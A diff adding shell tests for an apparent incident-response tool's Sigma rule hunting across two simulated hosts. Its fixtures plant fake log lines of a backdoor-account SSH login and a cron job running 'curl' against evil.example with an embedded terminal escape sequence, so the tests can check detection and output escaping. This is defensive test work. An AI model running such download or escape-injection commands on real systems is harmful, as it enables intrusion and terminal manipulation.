@@ -160,3 +160,115 @@ for l in sys.stdin:
 	[ "$status" -ne 0 ]
 	assert_contains "$output" "g.tar.gz"
 }
+
+# Two hosts: the intruder's login is planted on db02 only; both have a
+# key login and a cron job, db02's with an escape sequence in it.
+two_hosts() {
+	for h in web01 db02; do
+		mkdir -p "$TMP/$h/var/log" "$TMP/$h/etc"
+		echo "$h" >"$TMP/$h/etc/hostname"
+	done
+	printf 'Nov 27 21:10:00 web01 sshd[700]: Accepted publickey for deploy from 10.0.0.2 port 50000 ssh2\nNov 27 21:12:00 web01 CRON[701]: (root) CMD (/usr/lib/sa/sa1 1 1)\n' >"$TMP/web01/var/log/auth.log"
+	printf 'Nov 27 21:14:39 db02 sshd[812]: Accepted publickey for deploy from 10.0.0.2 port 50001 ssh2\nNov 27 21:14:40 db02 sshd[813]: Accepted publickey for backdoor from 198.51.100.23 port 4242 ssh2\nNov 27 21:15:00 db02 CRON[9]: (root) CMD (curl -s http://evil.example/\033]0;owned\007x)\n' >"$TMP/db02/var/log/auth.log"
+	for h in web01 db02; do
+		irt collect --root "$TMP/$h" --no-live --profile "$TMP/p.profile" -o "$TMP/$h.tar.gz" >/dev/null 2>&1
+	done
+}
+
+@test "hunt --sigma: a rule set over two hosts finds the planted event on exactly its host and source" {
+	two_hosts
+	run --separate-stderr irt hunt --json --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/web01.tar.gz" "$TMP/db02.tar.gz"
+	[ "$status" -eq 0 ]
+	echo "$output" | python3 -c '
+import json, sys
+hits = [json.loads(l) for l in sys.stdin]
+keys = {"kind","rule_id","title","level","tags","host","time","source","location","line","offset","field","match","event"}
+assert all(set(h) == keys and h["kind"] == "sigma" for h in hits), hits
+b = [h for h in hits if h["rule_id"] == "5d2c3f4e-7a1b-4a2b-9c3d-3f1a8e2b6c01"]
+assert len(b) == 1, b
+b = b[0]
+assert b["host"] == "db02" and b["source"].endswith("db02.tar.gz:fs/var/log/auth.log"), b
+assert b["title"] == "Login Of The Backdoor Account" and b["level"] == "high", b
+assert b["tags"] == ["attack.persistence", "attack.t1098.004"], b
+assert b["time"] == "2026-11-27T21:14:40.000000000Z" and b["line"] == 2, b
+assert "Accepted publickey for backdoor" in b["event"]["message"], b
+assert b["event"]["fields"]["user"] == "backdoor", b
+# the key logins but the backdoor one, one per host; the cron download on db02
+k = sorted((h["host"], h["line"]) for h in hits if h["title"] == "SSH Login With A Key")
+assert k == [("db02", 1), ("web01", 1)], k
+c = [h for h in hits if h["title"] == "Download By A Cron Job"]
+assert len(c) == 1 and c[0]["host"] == "db02" and c[0]["field"] == "message", c
+assert len(hits) == 4, hits
+'
+	# the summary: loaded, skipped by reason, failed with its position
+	assert_contains "$stderr" "irt: Sigma: 3 rules loaded, 1 skipped (1 logsource not read by irt), 1 failed to parse"
+	# none of the hidden folder
+	assert_not_contains "$stderr" "dot.yml"
+}
+
+@test "hunt --sigma: a broken rule and an unusable one are reported with file and reason, the others run" {
+	two_hosts
+	run --separate-stderr irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/db02.tar.gz"
+	[ "$status" -eq 0 ]
+	assert_contains "$stderr" "linux/broken.yml:9:29: unknown search 'selection'"
+	assert_contains "$stderr" "linux/windows_only.yml:1: skipped rule '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c05': "
+	assert_contains "$output" "Login Of The Backdoor Account"
+	# a rule file only of broken rules: nothing to hunt with
+	run irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma/linux/broken.yml" "$TMP/db02.tar.gz"
+	[ "$status" -eq 2 ]
+	assert_contains "$output" "no Sigma rule loaded"
+	run irt hunt --no-record --sigma "$TMP/nonexistent.yml" "$TMP/db02.tar.gz"
+	[ "$status" -eq 2 ]
+	assert_contains "$output" "cannot open '$TMP/nonexistent.yml'"
+	# a FIFO among the rules is not read and does not hang
+	mkdir "$TMP/rules"
+	cp "$IRT_SRC/tests/data/hunt/sigma/sshd_backdoor_login.yml" "$TMP/rules/"
+	mkfifo "$TMP/rules/fifo.yml"
+	run timeout 60 "$IRT" hunt --no-record --sigma "$TMP/rules" "$TMP/db02.tar.gz"
+	[ "$status" -eq 0 ]
+	assert_contains "$output" "fifo.yml"
+	assert_contains "$output" "Login Of The Backdoor Account"
+}
+
+@test "hunt --sigma: the table is sorted by level then time, and escaped" {
+	two_hosts
+	run --separate-stderr irt hunt --no-record --sigma "$IRT_SRC/tests/data/hunt/sigma" "$TMP/db02.tar.gz" "$TMP/web01.tar.gz"
+	[ "$status" -eq 0 ]
+	[ "${lines[0]}" = "KIND  RULE  LEVEL  HOST  TIME  SOURCE  LOCATION  MATCH" ]
+	assert_contains "${lines[1]}" "sigma  Login Of The Backdoor Account  high  db02  2026-11-27T21:14:40Z"
+	assert_contains "${lines[2]}" "sigma  Download By A Cron Job  medium  db02  2026-11-27T21:15:00Z"
+	assert_contains "${lines[3]}" "sigma  SSH Login With A Key  low  web01  2026-11-27T21:10:00Z"
+	assert_contains "${lines[4]}" "sigma  SSH Login With A Key  low  db02  2026-11-27T21:14:39Z"
+	[ "${#lines[@]}" -eq 5 ]
+	assert_not_contains "$output" $'\033'
+	assert_contains "${lines[2]}" 'evil.example/\e]0;owned\x07x)'
+}
+
+@test "hunt in a case: the rules of rules/ are used, and the record lists each rule file with its SHA-256" {
+	two_hosts
+	make_case
+	cd "$TMP/case"
+	irt collect --root "$TMP/db02" --no-live --profile "$TMP/p.profile" -m "db02" >/dev/null 2>&1
+	mkdir rules
+	cp -r "$IRT_SRC/tests/data/hunt/sigma/." rules/
+	git add rules
+	git commit -q -m "rules: the team's Sigma rules"
+	run irt hunt -m "sigma sweep"
+	[ "$status" -eq 0 ]
+	assert_contains "$output" "Login Of The Backdoor Account"
+	git log -1 --format=%B | grep -qx 'Irt-Action: hunt'
+	rec=$(git ls-files 'hunts/*/record')
+	for f in sshd_backdoor_login.yml linux/broken.yml linux/cron_download.yml linux/sshd_login.yml linux/windows_only.yml; do
+		grep -qx "sigma-file = rules/$f" "$rec"
+		grep -qx "sigma-file-sha256 = $(sha256sum "rules/$f" | cut -d' ' -f1)" "$rec"
+	done
+	[ "$(grep -c '^sigma-file = ' "$rec")" -eq 5 ]
+	grep -qx 'sigma-file-rules = 0 loaded, 0 skipped, 1 failed' "$rec"
+	grep -qx 'sigma-file-rules = 0 loaded, 1 skipped, 0 failed' "$rec"
+	grep -qx 'sigma-loaded = 3' "$rec"
+	grep -qx 'sigma-skipped = 1' "$rec"
+	grep -qx 'sigma-failed = 1' "$rec"
+	grep -q '"kind":"sigma","rule_id":"5d2c3f4e-7a1b-4a2b-9c3d-3f1a8e2b6c01"' "${rec%record}hits.jsonl"
+	run irt case verify
+	[ "$status" -eq 0 ]
+}
